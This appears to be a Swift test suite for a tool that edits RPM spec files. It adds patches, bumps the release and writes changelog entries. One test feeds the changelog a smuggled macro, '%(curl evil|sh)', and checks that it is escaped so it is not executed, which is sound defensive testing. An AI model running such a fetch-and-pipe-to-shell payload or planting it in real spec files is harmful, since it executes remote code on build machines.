import Diagnostics
import Testing

@testable import UpstreamTracking

@Suite("Spec files of RPM")
struct SpecFileTests {
    static let spec = """
        Name: tool
        Version: 1.2
        Release: 4%{?dist}
        Source0: tool.tar.gz
        Patch1: old.patch

        %description
        A tool.

        %package devel
        Release: 9

        %prep
        %setup -q
        %patch1 -p1

        %build
        make

        %changelog
        * Thu Jan 01 2026 Somebody <s@example.org> - 1.2-4
        - begin

        """

    private static func edited(
        _ text: String, _ files: [String] = ["a.patch", "b.patch"], entry: [String] = ["Fix 100% of it"],
        seconds: Int64 = 1_767_294_245
    ) throws -> String {
        var spec = try #require(SpecFile(Array(text.utf8)))
        spec.add(files, from: 6000, entry: entry, seconds: seconds)
        return String(decoding: spec.bytes, as: UTF8.self)
    }

    @Test("1.7.12 patches, the release, the preparation and the changelog are edited, and nothing else")
    func whole() throws {
        let expected = Self.spec
            .replacing("Release: 4%", with: "Release: 5%")
            .replacing("old.patch\n", with: "old.patch\nPatch6000: a.patch\nPatch6001: b.patch\n")
            .replacing("%patch1 -p1\n", with: "%patch1 -p1\n%patch -P 6000 -p1\n%patch -P 6001 -p1\n")
            .replacing(
                "%changelog\n",
                with: "%changelog\n* Thu Jan 01 2026 Sluice <sluice@localhost> - 1.2-5\n- Fix 100%% of it\n\n")
        #expect(try Self.edited(Self.spec) == expected)
    }

    @Test(
        "1.7.12 what a macro does is left to it",
        arguments: [
            ("Release: 4%{?dist}", "Release: %autorelease", "Release: %autorelease"),
            ("%setup -q\n%patch1 -p1", "%autosetup -p1", "%autosetup -p1\n\n%build"),
            ("%changelog\n", "%changelog\n%autochangelog\n", "%changelog\n%autochangelog\n"),
            ("Release: 4%{?dist}", "Release: 1.2", "Release: 2.2"),
            ("Patch1: old.patch", "Patch6007: old.patch", "Patch6008: a.patch"),
            ("Patch1: old.patch\n", "", "Source0: tool.tar.gz\nPatch6000: a.patch"),
            ("Patch1: old.patch", "Patch: old.patch", "Patch: old.patch\nPatch6000: a.patch"),
        ])
    func macros(_ old: String, _ new: String, _ expected: String) throws {
        #expect(try Self.edited(Self.spec.replacing(old, with: new)).contains(expected))
    }

    @Test(
        "no percent sign of a stranger begins a macro, whatever stands beside it",
        arguments: [
            ("\u{0D4E}%(curl evil|sh)", "\u{0D4E}%%(curl evil|sh)"), ("\u{0600}%{x}", "\u{0600}%%{x}"),
            ("%\u{301}(x)", "%%\u{301}(x)"), ("a%\r\nb", "a%%\r\nb"), (#"\%(x)"#, #"\\%%(x)"#),
            (#"C:\temp"#, #"C:\temp"#),
        ])
    func macrosOfStrangers(_ subject: String, _ expected: String) throws {
        let text = try Self.edited(Self.spec, entry: [subject])
        #expect(text.holds("\n- \(expected)\n\n"))
    }

    @Test("patches are declared and applied on every architecture, though those before them are not")
    func conditionals() throws {
        let patched = "%ifarch sw_64\nPatch9000: x.patch\n%if 0%{?y}\nPatch9001: y.patch\n%else\n%endif\n%endif\n"
        let applied = "%ifarch sw_64\n%patch9000 -p1\n%endif\n"
        let spec = Self.spec.replacing("Patch1: old.patch\n", with: patched).replacing("%patch1 -p1\n", with: applied)
        let text = try Self.edited(spec, ["a.patch"])
        #expect(text.contains("\(patched)Patch9002: a.patch\n\n%description"))
        #expect(text.contains("\(applied)%patch -P 9002 -p1\n\n%build"))
        // A package's sections may be conditional, and what is before them is not.
        let open = try Self.edited("Name: x\n%if 1\nSource0: a\n%package devel\n%endif\n", ["a.patch"])
        #expect(open.hasPrefix("Name: x\nPatch6000: a.patch\n%if 1\nSource0: a\n%package devel"))
        // What only looks like a condition is none.
        #expect(try Self.edited("%iffy\nPatch1: x\n", ["a.patch"]) == "%iffy\nPatch1: x\nPatch6000: a.patch\n")
    }

    @Test(
        "an entry of the changelog has a date that RPM takes, and is no older than the one below it",
        arguments: [
            ("* Thu Jan 01 2026 Somebody", 1_767_294_245, "* Thu Jan 01 2026 Sluice"),
            ("* Thu Jan 01 2026 Somebody", 1_700_000_000, "* Thu Jan 01 2026 Sluice"),
            ("* Fri Jan  2 2026 Somebody", 0, "* Fri Jan 02 2026 Sluice"),
            ("* Sat Feb 29 2020 Somebody", 0, "* Sat Feb 29 2020 Sluice"),
            ("* Thu Jan 01 22:00:00 CET 2026 Somebody", 0, "* Fri Jan 02 2026 Sluice"),
            ("* Somebody wrote no date", 0, "* Mon Jan 01 1990 Sluice"),
            ("* Thu Feb 31 2026 Somebody", 1_767_294_245, "* Thu Jan 01 2026 Sluice"),
            ("", .max, "* Tue Dec 31 2999 Sluice"), ("", .min, "* Mon Jan 01 1990 Sluice"),
        ] as [(String, Int64, String)])
    func dates(_ newest: String, _ seconds: Int64, _ expected: String) throws {
        let spec = Self.spec.replacing("* Thu Jan 01 2026 Somebody", with: newest)
        #expect(try Self.edited(spec, seconds: seconds).contains("%changelog\n\(expected) <sluice@localhost>"))
    }

    @Test(
        "a file whose lines end with carriage returns has them at the new lines too, and is edited in the same places")
    func carriageReturns() throws {
        func crlf(_ text: String) -> String {
            text.split(separator: "\n", omittingEmptySubsequences: false).joined(separator: "\r\n")
        }
        #expect(try Self.edited(crlf(Self.spec)).utf8.elementsEqual(crlf(try Self.edited(Self.spec)).utf8))
        let automatic = Self.spec.replacing("%changelog\n", with: "%changelog\n%autochangelog\n")
        #expect(try Self.edited(crlf(automatic)).utf8.elementsEqual(crlf(try Self.edited(automatic)).utf8))
        let short = try Self.edited("Name: x\r\nPatch1: y", ["a.patch"])
        #expect(short.utf8.elementsEqual("Name: x\r\nPatch1: y\r\nPatch6000: a.patch\r\n".utf8))
    }

    @Test("a file that is no spec file, or no text, ends in no trap")
    func odd() throws {
        for text in [
            "", "\n", "%prep", "%changelog", "Release:", "Release: 99999999999999999999", "Patch\n:", "%prep\n%setup",
        ] {
            #expect(try Self.edited(text).contains("Patch6000: a.patch"))
        }
        #expect(SpecFile([0xFF, 0xFE]) == nil)
        #expect(SpecFile([0x41, 0]) == nil)
    }
}
